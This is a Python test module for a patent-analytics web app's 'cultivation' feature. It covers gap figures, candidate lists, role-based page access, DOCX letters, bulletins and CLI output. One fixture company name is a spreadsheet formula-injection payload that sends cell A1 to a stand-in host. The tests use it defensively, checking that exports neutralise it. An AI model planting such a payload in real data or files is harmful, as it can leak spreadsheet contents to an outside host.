"""Cultivation outputs: the staff page and its API, an enterprise's own plan page and letter (each account sees
only what its role may), the letter read back, the bulletin's section and `hvp enterprise`, over the hand-built
district (tests/world.py) with three more inventions, each passing its 10th year between the day of the tests
and the plan's deadline (2024-12-31), so each enterprise has a candidate of its own:

  X1 甲 (world.E1)  胜利路  filed 2014-09-01, granted 2016-01-01: 10 years on 2024-09-01
  X2 乙 (world.E2)  来苏    filed 2014-10-15, granted 2016-03-01: 10 years on 2024-10-15
  X3 "=HYPERLINK(…)" 胜利路  filed 2014-08-20, granted 2016-02-01 (a formula-like name: never a live cell)

The room's arithmetic (the gap, each candidate kind at its boundary days) is tested by the cultivation room's
own tests; here every figure a page, the API, the letter, the bulletin or the command line shows is compared
with the room's answer for the same question.
"""

from __future__ import annotations

import json
import re
import shutil
from datetime import date, timedelta
from io import BytesIO

import pytest
from docx import Document
from openpyxl import load_workbook
from typer.testing import CliRunner

import world
from hvpatent.ingest.appno import check_digit
from hvpatent.ingest.fields import normalize_name
from hvpatent.model import Batch
from hvpatent.plan import load_plan
from hvpatent.reference.regions import attribute
from hvpatent.warehouse.store import Warehouse
from hvpatent.web import create_app
from webserver import client, serve, world_db

AS_OF = date(2024, 6, 30)
DEADLINE = date(2024, 12, 31)  # the seed plan's deadline
EVIL = '=HYPERLINK("http://x.example/?"&A1,"详情")有限公司'
E1, E2 = normalize_name(world.E1), normalize_name(world.E2)


def _no(serial: int, year: int) -> str:
    digits = f"{year}1{serial:07d}"
    return f"{digits}.{check_digit(digits)}"


X1, X2, X3 = _no(101, 2014), _no(102, 2014), _no(103, 2014)
EXTRA = [(X1, date(2014, 9, 1), date(2016, 1, 1), world.E1, world.SHENGLI, "H01M10/0525"),
         (X2, date(2014, 10, 15), date(2016, 3, 1), world.E2, world.LAISU, "B62K11/00"),
         (X3, date(2014, 8, 20), date(2016, 2, 1), EVIL, world.SHENGLI, "G06N3/08")]


def add_extra(wh: Warehouse) -> None:
    batch = Batch()
    batch.set("applications", [{"app_no": a, "patent_type": "invention", "filing_date": f, "title": f"培育测试{i}",
                                "ipc_main": ipc, "source": "test"} for i, (a, f, _, _, _, ipc) in enumerate(EXTRA, 1)])
    batch.set("parties", [{"app_no": a, "seq": 1, "role": "applicant", "name": name, "name_norm": normalize_name(name),
                           "party_type": "enterprise", "address": addr, **attribute(addr).__dict__}
                          for a, _, _, name, addr, _ in EXTRA])
    batch.set("ipc_classes", [{"app_no": a, "seq": 1, "ipc": ipc, "is_main": True} for a, *_, ipc in EXTRA])
    batch.set("legal_events", [{"app_no": a, "event_date": d, "event_type": e, "raw_text": e}
                               for a, f, g, *_ in EXTRA for d, e in ((f, "filed"), (g, "granted"))])
    with wh.import_transaction("cultivation", "cultivation", "test", "fixture") as tx:
        tx.add(batch, len(EXTRA))
    from hvpatent.indicators import refresh_derived

    refresh_derived(wh)


@pytest.fixture(scope="module")
def dbs(tmp_path_factory):
    """(server's warehouse, a copy for the command line): DuckDB lets one process hold a file one way."""
    folder = tmp_path_factory.mktemp("cultivation")
    db = world_db(folder)
    with Warehouse(db) as wh:
        add_extra(wh)
    cli_db = folder / "cli.duckdb"
    shutil.copy(db, cli_db)
    return db, cli_db


@pytest.fixture(scope="module")
def server(dbs):
    app = create_app(dbs[0], secret="test-secret", default_as_of=AS_OF)
    with serve(app) as url:
        yield app, url


@pytest.fixture(scope="module")
def base_url(server):
    return server[1]


@pytest.fixture(scope="module")
def con(server):
    with server[0].state.warehouse.reader() as backend:
        yield backend


@pytest.fixture(scope="module")
def room(con):
    """The cultivation room's answers for the district on AS_OF with the plan's deadline."""
    from hvpatent.cultivation import candidates, contributions, plan_gap, what_if

    gap = plan_gap(con, load_plan(), "high_value_per_10k", AS_OF, DEADLINE, region="500118")
    rows = candidates(con, AS_OF, DEADLINE, region="500118")
    return {"gap": gap, "rows": rows, "what_if": what_if(gap, rows),
            "by_town": contributions(rows, "town_code", gap=gap),
            "by_enterprise": contributions(rows, "applicant_norm", gap=gap)}


def _json(value):
    from fastapi.encoders import jsonable_encoder

    return json.loads(json.dumps(jsonable_encoder(value)))


def _docx_text(data) -> str:
    doc = Document(data)
    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
    return "\n".join([p.text for p in doc.paragraphs] + cells)


def test_the_world_has_a_candidate_for_each_enterprise(room):
    """The premise of the tests below: X1, X2 and X3 are candidates of the district (each passes 10 years
    before the deadline), with 甲's and 乙's in their own towns."""
    listed = {r["app_no"]: r for r in room["rows"]}
    assert {X1, X2, X3} <= set(listed), sorted(listed)
    assert listed[X1]["applicant_norm"] == E1 and listed[X1]["town_code"] == "500118002000"
    assert listed[X2]["applicant_norm"] == E2 and listed[X2]["town_code"] == "500118111000"
    assert all(AS_OF <= r["action_date"] <= DEADLINE for r in room["rows"] if r["app_no"] in (X1, X2, X3))


# -- the API ----------------------------------------------------------------------------------------------
def test_api_gap_equals_the_room(base_url, room):
    with client(base_url, "analyst") as c:
        got = c.get("/api/cultivation/gap", params={"as_of": AS_OF.isoformat()})  # target, deadline: defaults
        assert got.status_code == 200, got.text
        body = got.json()
        explicit = c.get("/api/cultivation/gap", params={"target": "high_value_per_10k", "as_of": "2024-06-30",
                                                         "deadline": "2024-12-31", "region": "500118"}).json()
        default_day = c.get("/api/cultivation/gap").json()  # as_of: the dashboard's day (AS_OF)
    assert body["gap"] == _json(room["gap"].as_dict())
    assert body["what_if"] == _json(room["what_if"])
    assert body["by_town"] == _json(room["by_town"]) and body["by_enterprise"] == _json(room["by_enterprise"])
    assert explicit == body == default_day
    # the per-town and per-enterprise tables add up to the what-if: all − none patents if every action
    # succeeds, historical − none expected (each group's expected rounded to 2 decimals)
    w = body["what_if"]
    for table in (body["by_town"], body["by_enterprise"]):
        assert sum(r["all"] for r in table) == pytest.approx(w["all"]["count"] - w["none"]["count"])
        assert sum(r["expected"] for r in table) == pytest.approx(
            w["historical"]["count"] - w["none"]["count"], abs=0.005 * len(table) + 1e-9)
    assert body["by_town"], "the district has candidates that move its count"
    assert body["gap"]["deadline"] == "2024-12-31" and body["gap"]["target_key"] == "high_value_per_10k"


def test_api_candidates_with_filters_and_xlsx(base_url, room):
    rows = room["rows"]
    with client(base_url, "analyst") as c:
        everything = c.get("/api/cultivation/candidates").json()
        milestone = c.get("/api/cultivation/candidates", params={"kind": "milestone_10y"}).json()
        laisu = c.get("/api/cultivation/candidates", params={"town": "500118111000"}).json()
        xlsx = c.get("/api/cultivation/candidates", params={"format": "xlsx"})
    assert everything == _json(rows)
    assert milestone == _json([r for r in rows if r["kind"] == "milestone_10y"]) and milestone
    assert laisu == _json([r for r in rows if r["town_code"] == "500118111000"]) and X2 in {r["app_no"] for r in laisu}
    assert xlsx.status_code == 200
    sheet = load_workbook(BytesIO(xlsx.content)).active
    assert sheet.max_row == len(rows) + 1
    # the formula-like name is a text cell with a leading quote: no spreadsheet evaluates it
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)


def test_bad_query_values_are_422_never_500(base_url):
    day_before, day_after = (AS_OF - timedelta(days=1)).isoformat(), (AS_OF + timedelta(days=1)).isoformat()
    with client(base_url, "analyst") as c:
        # the deadline must come after as_of: the day before and the day itself are refused, the day after is not
        assert c.get("/api/cultivation/gap", params={"deadline": day_before}).status_code == 422
        assert c.get("/api/cultivation/gap", params={"deadline": AS_OF.isoformat()}).status_code == 422
        assert c.get("/api/cultivation/gap", params={"deadline": day_after}).status_code == 200
        for bad in ({"target": "trademarks"}, {"target": "nope"}, {"deadline": "2024-13-01"}, {"as_of": "1900-01-01"},
                    {"as_of": "yesterday"}, {"region": "abc"}, {"deadline": "2200-01-01"}):
            got = c.get("/api/cultivation/gap", params=bad)
            assert got.status_code == 422, (bad, got.text)
            assert "detail" in got.json()
        for bad in ({"kind": "bogus"}, {"town": "500118"}, {"format": "pdf"}, {"deadline": "x"}):
            assert c.get("/api/cultivation/candidates", params=bad).status_code == 422, bad
        for bad in ({"deadline": "2024-02-30"}, {"target": "nope"}, {"kind": "bogus"}, {"as_of": "2024-13-01"}):
            page = c.get("/cultivation", params=bad)
            assert page.status_code == 422 and "<html" in page.text, bad
        assert c.get("/cultivation/letter.docx", params={"enterprise": world.E1, "deadline": "2024-01-01"}
                     ).status_code == 422


# -- the staff page ---------------------------------------------------------------------------------------
def test_staff_page_shows_the_rooms_figures(base_url, room):
    g = room["gap"].as_dict()
    with client(base_url, "admin") as c:
        page = c.get("/cultivation")
        filtered = c.get("/cultivation", params={"town": "500118111000"})
        english = c.get("/cultivation", params={"lang": "en"})
    assert page.status_code == 200, page.text
    text = page.text

    def card(name: str) -> str:
        return re.search(rf'id="gap-{name}">([^<]*)<', text).group(1)

    from hvpatent.web.pages import _num

    assert card("gap") == _num(g["gap"]) and card("required") == _num(g["required_count"])
    assert card("current") == _num(g["current_value"])
    assert re.search(r'<span id="count">(\d+)</span>', text).group(1) == str(len(room["rows"]))
    for r in room["rows"]:
        assert f'href="/patents/{r["app_no"]}?as_of=2024-06-30"' in text
    for s in ("none", "historical", "all"):
        row = re.search(rf'data-scenario="{s}">.*?</tr>', text, re.S).group(0)
        assert _num(room["what_if"][s]["count"]) in row
    assert '<option value="high_value_per_10k" selected>' in text and 'value="valid_inventions_per_10k"' in text
    assert 'href="/cultivation"' in text  # in the navigation
    assert "/cultivation/letter.docx?enterprise=" in text and 'id="by-town"' in text
    laisu = [r for r in room["rows"] if r["town_code"] == "500118111000"]
    assert re.search(r'<span id="count">(\d+)</span>', filtered.text).group(1) == str(len(laisu))
    assert X1 not in filtered.text and X2 in filtered.text
    assert english.status_code == 200 and "What if" in english.text
    assert "<script>" not in text.replace('<script src="/static/breakdown.js"></script>', "")  # CSP: no inline JS


def test_staff_gets_any_enterprises_letter(base_url, server, room):
    with client(base_url, "analyst") as c:
        letter = c.get("/cultivation/letter.docx", params={"enterprise": world.E2})
        missing = c.get("/cultivation/letter.docx", params={"enterprise": "没有这家公司"})
    assert letter.status_code == 200 and letter.headers["content-type"].startswith("application/vnd.openxml")
    text = _docx_text(BytesIO(letter.content))
    assert "高价值发明专利培育提示函" in text and X2 in text and X1 not in text
    x2 = next(r for r in room["rows"] if r["app_no"] == X2)
    assert x2["action_date"].isoformat() in text
    assert missing.status_code == 404
    logged = [e for e in server[0].state.analytics.audit_log() if e["action"] == "cultivation_letter"]
    assert any(E2 in e["detail"] for e in logged)


# -- an enterprise's own page and letter ------------------------------------------------------------------
def test_enterprise_sees_its_own_plan(base_url, con, room):
    from hvpatent.value import value_scores

    scores = value_scores(con, AS_OF, enterprise=E1)
    with client(base_url, "jia") as c:
        page = c.get("/mine/plan")
        letter = c.get("/mine/plan/letter.docx")
        smuggled = c.get("/mine/plan/letter.docx", params={"enterprise": world.E2})  # ignored: its own letter
    assert page.status_code == 200, page.text
    assert X1 in page.text and X2 not in page.text and X3 not in page.text
    assert re.search(r'id="value-scored">([^<]*)<', page.text).group(1) == str(len(scores))
    for grade in "ABCD":
        n = sum(1 for s in scores if s["grade"] == grade)
        assert re.search(rf'id="grade-{grade}">([^<]*)<', page.text).group(1) == str(n)
    assert 'href="/mine/plan"' in page.text and 'id="letter"' in page.text and 'id="aim"' in page.text
    x1 = next(r for r in room["rows"] if r["app_no"] == X1)
    text = _docx_text(BytesIO(letter.content))
    assert letter.status_code == 200 and X1 in text and x1["action_date"].isoformat() in text and X2 not in text
    assert _docx_text(BytesIO(smuggled.content)).count(X2) == 0
    with client(base_url, "yi") as c:
        other = c.get("/mine/plan")
    assert other.status_code == 200 and X2 in other.text and X1 not in other.text


@pytest.mark.parametrize("role", ["jia", "bank"])
def test_staff_pages_refused_to_other_accounts(base_url, role):
    with client(base_url, role) as c:
        for url in ("/cultivation", f"/cultivation/letter.docx?enterprise={world.E2}", "/api/cultivation/gap",
                    "/api/cultivation/candidates"):
            assert c.get(url).status_code == 403, url


@pytest.mark.parametrize("role", ["bank", "analyst", "admin"])
def test_enterprise_pages_refused_to_other_roles(base_url, role):
    with client(base_url, role) as c:
        for url in ("/mine/plan", "/mine/plan/letter.docx"):
            assert c.get(url).status_code == 403, (role, url)


def test_anonymous_visitors_are_sent_to_log_in(base_url):
    with client(base_url) as anonymous:
        assert anonymous.get("/api/cultivation/gap").status_code == 401
        for url in ("/cultivation", "/mine/plan", "/mine/plan/letter.docx"):
            assert anonymous.get(url, follow_redirects=False).status_code == 303, url


# -- the letter -------------------------------------------------------------------------------------------
LETTER_ROWS = [  # hand-built candidates, out of date order on purpose
    {"app_no": "2014101234567", "title": "一种电池", "kind": "milestone_10y", "action": "2024年9月1日前缴纳第11年年费",
     "action_en": "pay the 11th annuity by 2024-09-01", "action_date": date(2024, 9, 1),
     "effect_date": date(2024, 9, 2), "effect": "add", "high_value_now": False, "criterion": "maintained_10y"},
    {"app_no": "2016109876543", "title": "一种电机", "kind": "keep_alive", "action": "2024年8月1日前补缴年费及滞纳金",
     "action_en": "pay the annuity with the late fee by 2024-08-01", "action_date": date(2024, 8, 1),
     "effect_date": date(2024, 8, 1), "effect": "keep", "high_value_now": True, "criterion": "sei"},
]
GAP = {"target_key": "high_value_per_10k", "indicator": "high_value_per_10k", "region": "500118",
       "as_of": AS_OF, "deadline": DEADLINE, "target_value": 1.5, "current_value": 1.2, "gap": 30}


def test_letter_lists_the_actions_in_date_order(tmp_path):
    from hvpatent.reports.cultivation import write_cultivation_letter

    path = write_cultivation_letter("重庆甲公司", LETTER_ROWS, GAP, AS_OF, "永川区知识产权局", tmp_path / "l.docx",
                                    contact="王老师 023-0000")
    doc = Document(str(path))
    text = _docx_text(str(path))
    assert "高价值发明专利培育提示函" in text and "重庆甲公司：" in text
    # the aim: 永川区 (500118), 1.5 by 2024-12-31, now 1.2, 30 more patents needed
    assert "永川区力争到2024年12月31日" in text and "达到1.5" in text and "尚需新增高价值发明专利30件" in text
    assert "有高价值发明专利1件" in text and "有2项培育事项" in text and "1项办理成功可新增" in text
    actions = next(t for t in doc.tables if t.rows[0].cells[0].text == "申请号" and len(t.columns) == 7)
    assert [(r.cells[0].text, r.cells[4].text, r.cells[6].text) for r in actions.rows[1:]] == [
        ("2016109876543", "2024-08-01", "保持有效"), ("2014101234567", "2024-09-01", "新增")]
    assert "2024年9月1日前缴纳第11年年费" in text and "王老师 023-0000" in text and "永川区知识产权局" in text
    english = _docx_text(str(write_cultivation_letter("Jia Co.", LETTER_ROWS, GAP, AS_OF, "IP office",
                                                      tmp_path / "e.docx", "en")))
    assert "High-value patent cultivation letter" in english and "pay the 11th annuity by 2024-09-01" in english
    assert "30 more high-value invention patents" in english


def test_letter_without_actions_and_with_a_formula_like_name(tmp_path):
    from hvpatent.reports.cultivation import write_cultivation_letter

    path = write_cultivation_letter(EVIL, [], {}, AS_OF, "局", tmp_path / "f.docx")
    text = _docx_text(str(path))
    assert EVIL + "：" in text and "暂无高价值发明专利" in text and "未发现" in text
    assert "w:fldSimple" not in Document(str(path)).element.xml


# -- the bulletin -----------------------------------------------------------------------------------------
def test_bulletin_section_and_its_writers(con, room, tmp_path):
    from hvpatent.cultivation import KIND_LABELS, kind_summary
    from hvpatent.reports import write_bulletin
    from hvpatent.reports.bulletin import Bulletin
    from hvpatent.reports.cultivation import cultivation_section

    sheets: dict = {}
    plan = load_plan()
    section = cultivation_section(con, plan, AS_OF, "500118", sheets=sheets)
    assert section.heading == "高价值发明专利培育"
    g = room["gap"].as_dict()
    tables = {t.title: t for t in section.tables}
    # the gap table is titled with the plan's name of the target (万人高价值发明专利拥有量)
    gap_rows = {r["item"]: r["value"] for r in tables["万人高价值发明专利拥有量缺口测算"].rows}
    assert gap_rows["现有高价值发明专利(件)"] == g["current_count"]
    assert gap_rows["缺口(件)"] == g["gap"] and gap_rows["截止日所需(件)"] == g["required_count"]
    assert gap_rows["预计：全部办理成功"] == room["what_if"]["all"]["per_10k"]
    by_kind = {r["kind"]: r for r in tables["培育候选分类统计"].rows}
    summary = {k["kind"]: k for k in kind_summary(room["rows"], room["gap"])}
    for kind, (zh, _) in KIND_LABELS.items():
        assert by_kind[zh]["count"] == sum(1 for r in room["rows"] if r["kind"] == kind)
        # counted and expected by the what-if's rule (kind_summary), not the rows' raw probabilities
        assert (by_kind[zh]["counted"], by_kind[zh]["expected"]) == (summary[kind]["count"], summary[kind]["expected"])
    assert f"{len(room['rows'])}项事项" in section.paragraphs[1]
    assert len(sheets["培育候选清单"]) == len(room["rows"])
    section.heading = "九、高价值发明专利培育"
    bulletin = Bulletin("通报", "局", date(2024, 7, 10), AS_OF, "quarter", "500118", "永川区", [section], [], [], {},
                        sheets)
    text = _docx_text(str(write_bulletin(bulletin, "docx", tmp_path / "b.docx")))
    assert "九、高价值发明专利培育" in text and "培育候选分类统计" in text and "培育候选贡献前5位企业" in text
    wb = load_workbook(write_bulletin(bulletin, "xlsx", tmp_path / "b.xlsx"))
    assert wb["培育候选分类统计"].max_row == len(KIND_LABELS) + 1
    assert wb["培育候选清单(明细)"].max_row == len(room["rows"]) + 1  # the candidates' sheet, a row each
    # on the deadline and after it, the section says so instead of measuring a gap that is no longer ahead
    for day in (DEADLINE, DEADLINE + timedelta(days=1)):
        late = cultivation_section(con, plan, day, "500118")
        assert "已到" in late.paragraphs[0] and not late.tables



def test_bulletin_section_on_the_day_before_the_deadline(con, room, monkeypatch):
    """The day before the deadline the gap is still measured (the room's answers stand in: each costs seconds)."""
    import hvpatent.cultivation as cultivation
    from hvpatent.reports.cultivation import cultivation_section

    asked = []
    monkeypatch.setattr(cultivation, "plan_gap", lambda con, plan, key, day, end, region: asked.append(
        (key, day, end, region)) or room["gap"])
    monkeypatch.setattr(cultivation, "candidates", lambda con, day, end, region: [])
    before = cultivation_section(con, load_plan(), DEADLINE - timedelta(days=1), "500118")
    assert asked == [("high_value_per_10k", DEADLINE - timedelta(days=1), DEADLINE, "500118")]
    assert [t.title for t in before.tables][:2] == ["万人高价值发明专利拥有量缺口测算", "培育候选分类统计"]
    assert before.paragraphs[1] == "截止日前未发现可培育的候选专利。"


def test_a_valid_invention_target_is_worded_as_valid_inventions(con, room, monkeypatch):
    """A plan whose only per-10k target counts valid inventions: the aim, the gap table and its rows speak of
    有效发明专利 and the plan's name of the target, never of high-value patents (the room stands in)."""
    import dataclasses

    import hvpatent.cultivation as cultivation
    from hvpatent.reports.cultivation import aim_sentence, cultivation_section

    plan = load_plan()
    only_valid = dataclasses.replace(plan, targets=tuple(t for t in plan.targets
                                                         if t.key == "valid_inventions_per_10k"))
    gap = dataclasses.replace(room["gap"], target_key="valid_inventions_per_10k", indicator="valid_inventions_per_10k",
                              count_indicator="valid_inventions", target_value=10.7, gap=12)
    monkeypatch.setattr(cultivation, "plan_gap", lambda con, plan, key, day, end, region: gap)
    monkeypatch.setattr(cultivation, "candidates", lambda con, day, end, region: [])
    sec = cultivation_section(con, only_valid, AS_OF, "500118")
    assert "每万人口发明专利拥有量达到10.7" in sec.paragraphs[0] and "尚需新增有效发明专利12件" in sec.paragraphs[0]
    assert "高价值" not in sec.paragraphs[0]
    table = sec.tables[0]
    assert table.title == "每万人口发明专利拥有量缺口测算"
    assert {"现有有效发明专利(件)"} <= {r["item"] for r in table.rows}
    assert not any("高价值" in r["item"] for r in table.rows)
    english = aim_sentence({**GAP, "indicator": "valid_inventions_per_10k", "count_indicator": "valid_inventions"},
                           "en")
    assert "30 more valid invention patents" in english and "high-value" not in english


def test_enterprise_plans_share_the_days_rates_gap_and_value_frame(base_url, monkeypatch):
    """Letters for two enterprises on a day nobody asked about before: the region's historical rates, the plan's
    gap and the value frame are computed once for the day, not once per enterprise (each costs seconds on a
    district of 30,000 applications)."""
    import hvpatent.cultivation as cultivation
    import hvpatent.value as value

    calls: dict[str, list] = {"rates": [], "gap": [], "frame": []}

    def counted(name, real):
        def wrapper(*args, **kwargs):
            calls[name].append(args[1:3])
            return real(*args, **kwargs)
        return wrapper

    monkeypatch.setattr(cultivation, "historical_rates", counted("rates", cultivation.historical_rates))
    monkeypatch.setattr(cultivation, "plan_gap", counted("gap", cultivation.plan_gap))
    monkeypatch.setattr(value, "value_frame", counted("frame", value.value_frame))
    day = {"as_of": "2024-07-01"}  # a day of its own: nothing cached for it by the tests above
    with client(base_url, "analyst") as c:
        for name in (world.E1, world.E2):
            got = c.get("/cultivation/letter.docx", params={"enterprise": name, **day})
            assert got.status_code == 200, got.text
    with client(base_url, "jia") as c:
        assert c.get("/mine/plan", params=day).status_code == 200
    assert calls["rates"] == [(date(2024, 7, 1), "500118")]
    assert [args[1] for args in calls["gap"]] == ["high_value_per_10k"]
    assert len(calls["frame"]) == 1


# -- the command line -------------------------------------------------------------------------------------
runner = CliRunner()


def hvp(db, *args: str):
    from hvpatent.cli.main import app

    result = runner.invoke(app, ["--db", str(db), *[str(a) for a in args]])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result


def test_cli_enterprise_show_and_letter(dbs, room, tmp_path):
    shown = hvp(dbs[1], "enterprise", "show", world.E1, "--as-of", "2024-06-30", "--deadline", "2024-12-31",
                "--format", "json")
    assert shown.exit_code == 0, shown.output
    plan = json.loads(shown.stdout)[0]
    mine = [r for r in room["rows"] if r["applicant_norm"] == E1]
    assert {r["app_no"] for r in plan["candidates"]} >= {r["app_no"] for r in mine} and X2 not in shown.stdout
    dates = [r["action_date"] for r in plan["candidates"]]
    assert dates == sorted(dates)
    out = tmp_path / "letter.docx"
    letter = hvp(dbs[1], "enterprise", "letter", world.E1, "--out", out, "--as-of", "2024-06-30")
    assert letter.exit_code == 0, letter.output
    x1 = next(r for r in room["rows"] if r["app_no"] == X1)
    assert X1 in _docx_text(str(out)) and x1["action_date"].isoformat() in _docx_text(str(out))
    for deadline in ("2024-06-29", "2024-06-30"):  # the day before and the day itself: refused
        bad = hvp(dbs[1], "enterprise", "show", world.E1, "--as-of", "2024-06-30", "--deadline", deadline)
        assert bad.exit_code == 2 and "--deadline" in bad.output
